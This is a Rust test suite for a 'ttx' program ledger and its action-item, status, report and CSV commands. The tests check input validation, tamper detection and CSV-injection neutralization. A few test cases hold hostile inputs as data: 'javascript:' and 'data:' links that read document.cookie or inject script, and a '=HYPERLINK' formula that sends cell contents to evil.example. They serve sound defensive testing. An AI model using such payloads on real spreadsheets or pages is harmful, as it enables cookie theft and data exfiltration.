//! The program ledger, `ttx actions`, `ttx program status` and `ttx program report`, on
//! the example program's history as `scripts/acme-history.sh` builds it.

use std::path::{Path, PathBuf};
use std::sync::OnceLock;

use crate::support::{Ttx, copy_tree, root, screenshot_is_a_page};

/// The day the golden status is taken on.
const AS_OF: &str = "2026-11-28";
const NOW: &str = "2026-11-28T12:00:00Z";

fn tmp(name: &str) -> PathBuf {
    let dir = Path::new(env!("CARGO_TARGET_TMPDIR")).join(format!("program-{name}"));
    let _ = std::fs::remove_dir_all(&dir);
    std::fs::create_dir_all(&dir).unwrap();
    dir
}

/// A copy of the example program (and the scenario library it uses) with its history
/// rebuilt by the script; built once per test run.
pub fn history() -> &'static Path {
    static DIR: OnceLock<PathBuf> = OnceLock::new();
    DIR.get_or_init(|| {
        let dir = tmp("history");
        copy_tree(&root().join("scenarios"), &dir.join("scenarios"));
        let acme = dir.join("examples/acme");
        for entry in std::fs::read_dir(root().join("examples/acme")).unwrap() {
            let entry = entry.unwrap();
            let name = entry.file_name();
            if name == "journals" {
                continue;
            }
            if entry.file_type().unwrap().is_dir() {
                copy_tree(&entry.path(), &acme.join(&name));
            } else {
                std::fs::create_dir_all(&acme).unwrap();
                std::fs::copy(entry.path(), acme.join(&name)).unwrap();
            }
        }
        let out = std::process::Command::new("bash")
            .arg(root().join("scripts/acme-history.sh"))
            .arg(&acme)
            .env("TTX", env!("CARGO_BIN_EXE_ttx"))
            .env("NO_COLOR", "1")
            .output()
            .unwrap();
        assert!(
            out.status.success(),
            "the history script failed:\n{}",
            String::from_utf8_lossy(&out.stderr)
        );
        acme
    })
}

/// A private copy of the history, for tests that change the ledger.
pub fn copy_of_history(name: &str) -> PathBuf {
    let dir = tmp(name);
    copy_tree(&history().join("../../scenarios"), &dir.join("scenarios"));
    copy_tree(history(), &dir.join("examples/acme"));
    dir.join("examples/acme")
}

fn ttx(dir: &Path) -> Ttx {
    Ttx::new()
        .cwd(dir)
        .env("TTX_NOW", NOW)
        .env("TTX_USER", "test")
}

fn ledger(dir: &Path) -> Vec<u8> {
    std::fs::read(dir.join("ledger.jsonl")).unwrap()
}

#[test]
fn the_history_script_reproduces_the_shipped_ledger() {
    let built = ledger(history());
    let shipped = std::fs::read(root().join("examples/acme/ledger.jsonl")).unwrap();
    assert!(
        built == shipped,
        "examples/acme/ledger.jsonl is stale; run `TTX=target/debug/ttx scripts/acme-history.sh`"
    );
}

#[test]
fn program_status_is_golden() {
    let json = ttx(history())
        .args(["program", "status", "--format", "json", "--as-of", AS_OF])
        .run();
    json.code(0);
    insta::assert_snapshot!("program-status.json", json.stdout);
    let text = ttx(history())
        .args(["program", "status", "--as-of", AS_OF])
        .run();
    text.code(0);
    insta::assert_snapshot!("program-status.txt", text.stdout);
}

#[test]
fn program_status_shows_completion_cadence_repeats_and_trends() {
    let out = ttx(history())
        .args(["program", "status", "--format", "json", "--as-of", AS_OF])
        .run();
    let s: serde_json::Value = serde_json::from_str(&out.stdout).unwrap();
    let exercises = s["exercises"].as_array().unwrap();
    assert_eq!(exercises.len(), 5);
    // The first exercise's follow-up: 7 of 9 done, the other 2 closed as won't fix
    // (duplicates): they leave the base, so the rate is 100%, not 77%.
    assert_eq!(exercises[0]["completion_rate"], 100);
    assert_eq!(exercises[0]["done"], 7);
    assert_eq!(exercises[0]["wont_fix"], 2);
    // A gap that came back after its item was done is a regression.
    let relapses = s["relapses"].as_array().unwrap();
    assert!(
        relapses
            .iter()
            .any(|r| r["expectation"] == "contain-refunds"
                && r["closed_item"] == "2025H1-PAYMENTS-02"
                && r["exercise"] == "2026-05-14-slow-red-herring"),
        "{relapses:?}"
    );
    assert!(
        s["declines"]
            .as_array()
            .unwrap()
            .iter()
            .any(|d| d["capability"] == "communication"
                && d["rating"] == "U"
                && d["previous_rating"] == "S"),
        "{}",
        s["declines"]
    );
    assert_eq!(s["cadence"]["next_due"], "2027-05-12");
    assert_eq!(s["cadence"]["overdue"], false);
    let repeats = s["repeat_findings"].as_array().unwrap();
    assert!(
        repeats
            .iter()
            .any(|r| r["key"] == "processor" && r["times_in_a_row"] == 3),
        "the processor gap repeats: {repeats:?}"
    );
    let halves: Vec<&str> = s["trends"]
        .as_array()
        .unwrap()
        .iter()
        .map(|h| h["half"].as_str().unwrap())
        .collect();
    assert_eq!(halves, ["2025H1", "2025H2", "2026H1", "2026H2"]);
    // A year later the cadence is overdue.
    let later = ttx(history())
        .args([
            "program",
            "status",
            "--format",
            "json",
            "--as-of",
            "2027-06-01",
        ])
        .run();
    let later: serde_json::Value = serde_json::from_str(&later.stdout).unwrap();
    assert_eq!(later["cadence"]["overdue"], true);
    assert_eq!(later["cadence"]["days_left"], -20);
}

#[test]
fn the_dashboard_is_one_self_contained_page_with_readable_charts() {
    let dir = tmp("dashboard");
    let html = dir.join("program.html");
    ttx(history())
        .args(["program", "report", "--as-of", AS_OF, "-o"])
        .args([html.to_str().unwrap()])
        .run()
        .code(0);
    let page = std::fs::read_to_string(&html).unwrap();
    assert_eq!(page.matches("<svg").count(), 3, "three charts");
    for needle in [
        "Action items per exercise, by status",
        "Open and closed items over time",
        "Open and overdue items by team",
        "Repeat findings",
        "Ratings per capability over time",
        ">100%<",
        "share of the exercise",
        "swatch s-overdue",
    ] {
        assert!(page.contains(needle), "the dashboard lacks {needle}");
    }
    for outside in ["<script", "<link", "src=\"http", "url(http"] {
        assert!(!page.contains(outside), "the dashboard loads {outside}");
    }
    screenshot_is_a_page(&html);
}

#[test]
fn actions_list_filters_by_state_owner_and_exercise() {
    let list = |args: &[&str]| -> Vec<serde_json::Value> {
        let out = ttx(history())
            .args(["actions", "list", "--format", "json"])
            .args(args)
            .run();
        out.code(0);
        let v: serde_json::Value = serde_json::from_str(&out.stdout).unwrap();
        v["items"].as_array().unwrap().clone()
    };
    assert_eq!(list(&[]).len(), 25);
    let open = list(&["--open"]);
    assert_eq!(open.len(), 7);
    assert!(
        open.iter()
            .all(|i| i["status"] == "open" || i["status"] == "in-progress")
    );
    let overdue = list(&["--overdue"]);
    assert_eq!(overdue.len(), 6);
    assert!(overdue.iter().all(|i| i["overdue"] == true));
    let payments = list(&["--owner", "payments", "--open"]);
    assert_eq!(payments.len(), 4);
    assert!(
        payments
            .iter()
            .all(|i| i["current_owner"] == "Payments Platform")
    );
    let b = list(&["--exercise", "2026-05-14-textbook"]);
    assert_eq!(b.len(), 2);
    assert!(b.iter().all(|i| i["id"].as_str().unwrap().contains("-B0")));
    ttx(history())
        .args(["actions", "list", "--exercise", "2026-05-14-txtbook"])
        .run()
        .code(2)
        .stderr_has("did you mean `2026-05-14-textbook`?");
    let csv = ttx(history())
        .args(["actions", "list", "--format", "csv", "--open"])
        .run();
    assert!(csv.stdout.starts_with("id,capability,finding,corrective_action,element,owner,poc,priority,start,due,status,exercise,note,evidence\n"));
    assert_eq!(csv.stdout.lines().count(), 8);
}

#[test]
fn actions_show_keeps_the_full_history() {
    let out = ttx(history())
        .args(["actions", "show", "2025H1-PAYMENTS-02"])
        .run();
    out.code(0);
    insta::assert_snapshot!("actions-show", out.stdout);
    let json = ttx(history())
        .args(["actions", "show", "2025H1-PAYMENTS-02", "--format", "json"])
        .run();
    let v: serde_json::Value = serde_json::from_str(&json.stdout).unwrap();
    let history = v["history"].as_array().unwrap();
    assert_eq!(history.len(), 3, "entered, in progress, done");
    assert_eq!(history[2]["by"], "raj-patel");
    assert_eq!(v["done_on"], "2025-06-02");
}

#[test]
fn actions_set_refuses_bad_input_and_writes_nothing() {
    let dir = copy_of_history("set-bad");
    let before = ledger(&dir);
    let cases: &[(&[&str], i32, &str)] = &[
        (&["--status", "finished"], 2, "possible values"),
        (
            &["--owner", "Payments Platfrom"],
            2,
            "did you mean `Payments Platform`?",
        ),
        (
            &["--evidence", "javascript://%0Aalert(document.cookie)"],
            2,
            "is a `javascript:` link; only http(s) links or plain text",
        ),
        (
            &["--evidence", "javascript:alert(1)"],
            2,
            "is a `javascript:` link",
        ),
        (
            &["--evidence", "data:text/html,<script>"],
            2,
            "is a `data:` link",
        ),
        (
            &["--evidence", "https://tracker/SEC 1"],
            2,
            "not a whole link",
        ),
        (&["--due", "next week"], 2, "is not a date"),
        (&[], 2, "nothing to change"),
    ];
    for (args, code, message) in cases {
        ttx(&dir)
            .args(["actions", "set", "2026H1-PAYMENTS-06"])
            .args(*args)
            .run()
            .code(*code)
            .stderr_has(message);
    }
    ttx(&dir)
        .args(["actions", "set", "2026H1-PAYMENTS-6", "--status", "done"])
        .run()
        .code(1)
        .stderr_has("did you mean `2026H1-PAYMENTS-06`?");
    assert!(
        ledger(&dir) == before,
        "a refused change wrote to the ledger"
    );
}

#[test]
fn a_change_is_appended_and_never_overwrites() {
    let dir = copy_of_history("set-append");
    let before = ledger(&dir);
    ttx(&dir)
        .args([
            "actions",
            "set",
            "2026H1-PAYMENTS-06",
            "--status",
            "done",
            "--evidence",
            "https://tracker.acme.example/SEC-400",
            "--on",
            "2026-11-27",
        ])
        .run()
        .code(0)
        .stdout_has("status done");
    let after = ledger(&dir);
    assert!(after.starts_with(&before), "earlier lines changed");
    assert_eq!(
        after[before.len()..]
            .iter()
            .filter(|b| **b == b'\n')
            .count(),
        1
    );
    ttx(&dir)
        .args(["actions", "set", "2026H1-PAYMENTS-06", "--status", "done"])
        .run()
        .code(0)
        .stdout_has("nothing recorded");
    assert_eq!(
        ledger(&dir),
        after,
        "a change that changes nothing is not recorded"
    );
}

#[test]
fn import_is_all_or_nothing_and_idempotent() {
    let dir = copy_of_history("import");
    let before = ledger(&dir);
    std::fs::write(
        dir.join("bad.csv"),
        "id,status\n2026H1-PAYMENTS-06,Done\n2026H1-PAYMENTS-99,Done\n2026H2-PAYMENTS-01,Maybe\n",
    )
    .unwrap();
    let out = ttx(&dir).args(["actions", "import", "bad.csv"]).run();
    out.code(1)
        .stderr_has("bad.csv:3: unknown action item `2026H1-PAYMENTS-99`")
        .stderr_has("bad.csv:4: status `Maybe` is not one of")
        .stderr_has("nothing was imported");
    assert!(
        ledger(&dir) == before,
        "a failed import wrote to the ledger"
    );
    // Regression: two rows for one item saying different things, one silently dropped;
    // and invalid UTF-8 exited 2, where the same problem in YAML exits 1.
    std::fs::write(
        dir.join("twice.csv"),
        "id,status\n2026H1-PAYMENTS-06,Done\n2026H1-PAYMENTS-06,Done\n2026H1-PAYMENTS-06,Open\n",
    )
    .unwrap();
    ttx(&dir)
        .args(["actions", "import", "twice.csv"])
        .run()
        .code(1)
        .stderr_has("twice.csv:4: `2026H1-PAYMENTS-06` is also on line 2 with other values")
        .stderr_has("nothing was imported");
    std::fs::write(
        dir.join("latin1.csv"),
        b"id,status\n2026H1-PAYMENTS-06,Fin\xe9\n",
    )
    .unwrap();
    ttx(&dir)
        .args(["actions", "import", "latin1.csv"])
        .run()
        .code(1)
        .stderr_has("invalid UTF-8");
    assert!(ledger(&dir) == before);
    std::fs::write(
        dir.join("good.csv"),
        "ID,Status,Owner\n2026H1-PAYMENTS-06,Done,\n2026H2-PAYMENTS-01,In Progress,security\n",
    )
    .unwrap();
    ttx(&dir)
        .args(["actions", "import", "good.csv"])
        .run()
        .code(0)
        .stdout_has("imported 2 change(s)");
    ttx(&dir)
        .args(["actions", "import", "good.csv"])
        .run()
        .code(0)
        .stdout_has("imported 0 change(s)");
    // A report's own CSV names report ids; --exercise maps them to the ledger's.
    std::fs::write(
        dir.join("report.csv"),
        "id,status\n2026H1-PAYMENTS-02,Done\n",
    )
    .unwrap();
    ttx(&dir)
        .args([
            "actions",
            "import",
            "report.csv",
            "--exercise",
            "2026-05-14-textbook",
        ])
        .run()
        .code(0);
    let show = ttx(&dir)
        .args(["actions", "show", "2026H1-PAYMENTS-B02"])
        .run();
    show.stdout_has("2026H1-PAYMENTS-B02  done");
}

#[test]
fn reports_enter_an_exercise_once() {
    let dir = copy_of_history("report-enters");
    let report = |extra: &[&str]| {
        ttx(&dir)
            .args([
                "report",
                "journals/2026-11-12-processor-incident.jsonl",
                "-o",
                "aar.md",
            ])
            .args(extra)
            .run()
    };
    let before = ledger(&dir);
    report(&["--ledger"]).code(0).stderr_has("is already in");
    assert!(
        ledger(&dir) == before,
        "re-rendering a report duplicated its items"
    );
    std::fs::remove_file(dir.join("ledger.jsonl")).unwrap();
    for expected in ["entered with 2 action item(s)", "already in"] {
        report(&["--ledger"]).code(0).stderr_has(expected);
    }
}

/// Regression: `ttx report` used to write the ledger as a side effect of rendering.
#[test]
fn a_report_alone_never_writes_the_ledger() {
    let dir = copy_of_history("report-alone");
    std::fs::remove_file(dir.join("ledger.jsonl")).unwrap();
    ttx(&dir)
        .args([
            "report",
            "journals/2026-11-12-processor-incident.jsonl",
            "-o",
            "aar.md",
        ])
        .run()
        .code(0)
        .stderr_has("ttx actions add journals/2026-11-12-processor-incident.jsonl");
    assert!(
        !dir.join("ledger.jsonl").exists(),
        "a plain report created the ledger"
    );
}

#[test]
fn concurrent_changes_from_several_processes_are_all_kept() {
    let dir = copy_of_history("concurrent");
    let before = ledger(&dir);
    let children: Vec<_> = (0..8)
        .map(|n| {
            std::process::Command::new(env!("CARGO_BIN_EXE_ttx"))
                .args(["actions", "set", "2026H1-PAYMENTS-06", "--note"])
                .arg(format!("writer {n} was here"))
                .current_dir(&dir)
                .env("TTX_USER", format!("writer-{n}"))
                .stdout(std::process::Stdio::null())
                .stderr(std::process::Stdio::piped())
                .spawn()
                .unwrap()
        })
        .collect();
    for child in children {
        let out = child.wait_with_output().unwrap();
        assert!(
            out.status.success(),
            "{}",
            String::from_utf8_lossy(&out.stderr)
        );
    }
    let ledger = ttx_engine::program::ledger::Ledger::read(&dir.join("ledger.jsonl")).unwrap();
    let notes: Vec<String> = ledger
        .entries
        .iter()
        .filter_map(|e| match &e.event {
            ttx_engine::program::ledger::LedgerEvent::Update(u) => u.note.clone(),
            _ => None,
        })
        .filter(|n| n.contains("was here"))
        .collect();
    assert_eq!(notes.len(), 8, "a writer's change was lost: {notes:?}");
    assert!(
        std::fs::read(dir.join("ledger.jsonl"))
            .unwrap()
            .starts_with(&before)
    );
}

#[test]
fn a_torn_last_line_is_reported_then_set_aside() {
    let dir = copy_of_history("torn");
    let path = dir.join("ledger.jsonl");
    let mut bytes = ledger(&dir);
    bytes.extend_from_slice(b"{\"v\":1,\"seq\":999,\"at\":\"2026-11-");
    std::fs::write(&path, &bytes).unwrap();
    ttx(&dir)
        .args(["actions", "list", "--open"])
        .run()
        .code(0)
        .stderr_has("the last line is cut short");
    ttx(&dir)
        .args([
            "actions",
            "set",
            "2026H1-PAYMENTS-06",
            "--status",
            "in-progress",
        ])
        .run()
        .code(0)
        .stderr_has("is kept in");
    assert!(dir.join("ledger.jsonl.torn").exists());
    let l = ttx_engine::program::ledger::Ledger::read(&path).unwrap();
    assert!(l.torn.is_none());
}

#[test]
fn a_tampered_ledger_is_refused_with_its_line() {
    let dir = copy_of_history("tampered");
    let path = dir.join("ledger.jsonl");
    let text = std::fs::read_to_string(&path).unwrap().replacen(
        "\"status\":\"wont-fix\"",
        "\"status\":\"done\"",
        1,
    );
    std::fs::write(&path, text).unwrap();
    ttx(&dir)
        .args(["program", "status"])
        .run()
        .code(1)
        .stderr_has("the hash chain is broken")
        .stderr_has("the ledger was edited, reordered or cut");
}

/// Regression: a note or finding that begins like a formula (`=HYPERLINK(…)`, `+`, `-`,
/// `@`, tab, CR) ran as a formula when the CSV was opened in a spreadsheet.
#[test]
fn csv_exports_are_safe_to_open_in_a_spreadsheet_and_import_back_unchanged() {
    let dir = copy_of_history("csv-injection");
    let formula = "=HYPERLINK(\"http://evil.example/?\"&A1,\"open\")";
    ttx(&dir)
        .args(["actions", "set", "2026H2-PAYMENTS-01", "--note", formula])
        .run()
        .code(0);
    let out = ttx(&dir).args(["actions", "list", "--format", "csv"]).run();
    out.code(0);
    let csv = out.stdout.clone();
    assert!(
        csv.contains("\"'=HYPERLINK("),
        "the formula is neutralized with a leading quote:\n{csv}"
    );
    for line in csv.lines() {
        for cell in line.split(',') {
            let cell = cell.trim_start_matches('"');
            assert!(
                !cell.starts_with(['=', '+', '@', '\t', '\r']),
                "a cell a spreadsheet would evaluate: {cell}"
            );
        }
    }
    // Importing the export back changes nothing: the quote is taken off again.
    std::fs::write(dir.join("export.csv"), &csv).unwrap();
    ttx(&dir)
        .args(["actions", "import", "export.csv"])
        .run()
        .code(0)
        .stdout_has("imported 0 change(s)");
    let show = ttx(&dir)
        .args(["actions", "show", "2026H2-PAYMENTS-01"])
        .run();
    show.code(0).stdout_has(formula);
}

/// Regression: a change with no `--by` and no `TTX_USER` was recorded as by `unknown`.
#[test]
fn a_change_without_an_author_warns_and_records_the_os_user_and_plain_text_evidence_is_kept() {
    let dir = copy_of_history("authorship");
    Ttx::new()
        .cwd(&dir)
        .env("TTX_NOW", NOW)
        .env("TTX_USER", "")
        .env("USER", "alex")
        .args([
            "actions",
            "set",
            "2026H2-PAYMENTS-01",
            "--evidence",
            "SEC-311, closed by the CAB",
        ])
        .run()
        .code(0)
        .stderr_has("warning: no --by and no TTX_USER: the change is recorded as by `alex`");
    let last = String::from_utf8(ledger(&dir)).unwrap();
    let last: serde_json::Value = serde_json::from_str(last.lines().last().unwrap()).unwrap();
    assert_eq!(last["by"], "alex");
    assert_eq!(last["event"]["evidence"], "SEC-311, closed by the CAB");
    assert!(
        !String::from_utf8(ledger(&dir))
            .unwrap()
            .contains("\"by\":\"unknown\"")
    );
}

/// The (id, finding) pairs of a report's CSV.
fn report_items(dir: &Path, journal: &str, extra: &[&str]) -> Vec<(String, String)> {
    let out = ttx(dir)
        .args(["report", journal, "--format", "csv"])
        .args(extra)
        .run();
    out.code(0);
    let mut r = csv::Reader::from_reader(out.stdout.as_bytes());
    r.records()
        .map(|row| {
            let row = row.unwrap();
            (row[0].to_string(), row[2].to_string())
        })
        .collect()
}

/// Regression: the report printed `2026H1-PAYMENTS-01` while the ledger entered the same
/// item as `2026H1-PAYMENTS-B01` (another exercise had `-01`), and `ttx actions show
/// 2026H1-PAYMENTS-01` opened the other exercise's item.
#[test]
fn an_id_in_a_report_opens_that_item_in_the_ledger_for_two_exercises_of_one_scenario() {
    let dir = copy_of_history("one-id");
    let check = |dir: &Path, journal: &str, stem: &str, items: &[(String, String)]| {
        assert!(!items.is_empty(), "{journal} has action items");
        for (id, finding) in items {
            let out = ttx(dir)
                .args(["actions", "show", id, "--format", "json"])
                .run();
            out.code(0);
            let v: serde_json::Value = serde_json::from_str(&out.stdout).unwrap();
            assert_eq!(v["exercise"], stem, "{id} belongs to {stem}");
            assert_eq!(v["finding"].as_str(), Some(finding.as_str()), "{id}");
        }
    };
    let textbook = "journals/2026-05-14-textbook.jsonl";
    let slow = "journals/2026-05-14-slow-red-herring.jsonl";
    let a = report_items(&dir, textbook, &[]);
    let b = report_items(&dir, slow, &[]);
    check(&dir, textbook, "2026-05-14-textbook", &a);
    check(&dir, slow, "2026-05-14-slow-red-herring", &b);
    assert!(
        a.iter().all(|(id, _)| !b.iter().any(|(x, _)| x == id)),
        "no id names two items"
    );
    // Fresh: the second exercise enters first. Before entry the ids are provisional and
    // say so; `report --ledger` enters and prints the ids the ledger gave, stable after.
    std::fs::remove_file(dir.join("ledger.jsonl")).unwrap();
    let first = report_items(&dir, slow, &["--ledger"]);
    let out = ttx(&dir).args(["report", textbook, "-o", "aar.md"]).run();
    out.code(0).stderr_has("their ids are provisional");
    let md = std::fs::read_to_string(dir.join("aar.md")).unwrap();
    assert!(md.contains("The ids are provisional until the exercise is entered"));
    let provisional = report_items(&dir, textbook, &[]);
    let entered = report_items(&dir, textbook, &["--ledger"]);
    assert_eq!(
        provisional, entered,
        "provisional ids are the ones the ledger then gives"
    );
    assert_eq!(
        entered,
        report_items(&dir, textbook, &[]),
        "stable across re-runs"
    );
    assert!(
        entered.iter().all(|(id, _)| id.contains("-B")),
        "{entered:?}"
    );
    check(&dir, slow, "2026-05-14-slow-red-herring", &first);
    check(&dir, textbook, "2026-05-14-textbook", &entered);
    let md = {
        ttx(&dir)
            .args(["report", textbook, "-o", "aar.md"])
            .run()
            .code(0);
        std::fs::read_to_string(dir.join("aar.md")).unwrap()
    };
    assert!(md.contains("Ids as entered in the program's ledger"));
    for (id, _) in &entered {
        assert!(md.contains(id.as_str()), "the Markdown names {id}");
    }
}

/// Regression: a tracked journal cut at a line boundary (its last lines deleted) verified
/// as intact, because a hash chain cannot tell a cut from an end. The ledger now anchors
/// each exercise it enters (the journal's last line and length): `verify`, `report` and
/// `actions verify` refuse the cut journal, and say when it was entered.
#[test]
fn a_tracked_journal_cut_after_it_was_entered_is_refused() {
    let dir = copy_of_history("anchor");
    ttx(&dir)
        .args(["actions", "verify"])
        .run()
        .code(0)
        .stdout_has("hash chain intact, head ")
        .stdout_has("2026-05-14-textbook: journals/2026-05-14-textbook.jsonl holds the 41 events it was entered with")
        .stdout_has("not that none was cut off the end");
    let journal = dir.join("journals/2026-05-14-textbook.jsonl");
    let text = std::fs::read_to_string(&journal).unwrap();
    let lines: Vec<&str> = text.lines().collect();
    std::fs::write(&journal, lines[..lines.len() - 3].join("\n") + "\n").unwrap();
    let why = "this journal was cut or changed after it was entered in the ledger on 2026-05-15";
    for args in [
        vec!["verify", "journals/2026-05-14-textbook.jsonl"],
        vec!["report", "journals/2026-05-14-textbook.jsonl"],
    ] {
        ttx(&dir)
            .args(&args)
            .run()
            .code(1)
            .stderr_has(why)
            .stderr_has("the journal has 38 events (it was cut)");
    }
    ttx(&dir)
        .args(["actions", "verify"])
        .run()
        .code(1)
        .stderr_has(why)
        .stderr_has("the journal has 38 events (it was cut)");
}

/// The files `ttx` opened, by their path from `dir`, and how often: read from `strace`'s
/// trace of every `open`/`openat` that succeeded.
fn opened(dir: &Path, args: &[&str]) -> std::collections::BTreeMap<String, usize> {
    let trace = dir.join("open.trace");
    let _ = std::fs::remove_file(&trace);
    let status = std::process::Command::new("strace")
        .args(["-f", "-qq", "-e", "trace=open,openat", "-o"])
        .arg(&trace)
        .arg(env!("CARGO_BIN_EXE_ttx"))
        .args(args)
        .current_dir(dir)
        .env("TTX_NOW", NOW)
        .env("TTX_USER", "test")
        .stdout(std::process::Stdio::null())
        .stderr(std::process::Stdio::null())
        .status()
        .expect("strace runs (Debian's `strace`; .ci/run installs it)");
    assert!(status.success(), "ttx {args:?} failed under strace");
    let mut counts = std::collections::BTreeMap::new();
    for line in std::fs::read_to_string(&trace).unwrap().lines() {
        let (Some(start), Some(result)) = (line.find('"'), line.rsplit_once(") = ")) else {
            continue;
        };
        if result.1.starts_with('-') {
            continue;
        }
        let rest = &line[start + 1..];
        let Some(end) = rest.find('"') else { continue };
        let path = &rest[..end];
        if !(path.ends_with(".yaml") || path.ends_with(".jsonl")) {
            continue;
        }
        let mut shown = std::path::PathBuf::new();
        for c in dir.join(path).components() {
            match c {
                std::path::Component::ParentDir => {
                    shown.pop();
                }
                std::path::Component::CurDir => {}
                c => shown.push(c),
            }
        }
        let shown = shown
            .strip_prefix(dir.parent().and_then(Path::parent).unwrap())
            .unwrap_or(&shown)
            .display()
            .to_string();
        *counts.entry(shown).or_insert(0) += 1;
    }
    counts
}

/// Issue 24: reading an exercise back (`program::record::Record::open`) reads each file
/// it stands on once, where `ttx report` read the scenario 3 times and the roster,
/// `ttx.yaml` and the ledger twice each. `actions add` reads the ledger once more, under
/// the writer's lock, where it must.
#[test]
fn reading_an_exercise_back_reads_each_file_once() {
    let dir = copy_of_history("read-once");
    let journal = "journals/2026-05-14-textbook.jsonl";
    let stands_on = [
        "examples/acme/architecture.yaml",
        "examples/acme/journals/2026-05-14-textbook.jsonl",
        "examples/acme/ledger.jsonl",
        "examples/acme/roster.yaml",
        "examples/acme/ttx.yaml",
        "scenarios/payments-credential-leak.yaml",
    ];
    for args in [
        vec!["report", journal],
        vec!["report", journal, "--ledger"],
        vec!["verify", journal],
        vec!["replay", journal],
        vec!["actions", "add", journal],
    ] {
        let counts = opened(&dir, &args);
        for file in stands_on {
            let n = counts.get(file).copied().unwrap_or(0);
            let enters = args.contains(&"add") || args.contains(&"--ledger");
            let expected = if file.ends_with("ledger.jsonl") && enters {
                2
            } else {
                1
            };
            assert_eq!(
                n,
                expected,
                "`ttx {}` opened {file} {n} time(s): {counts:?}",
                args.join(" ")
            );
        }
    }
}
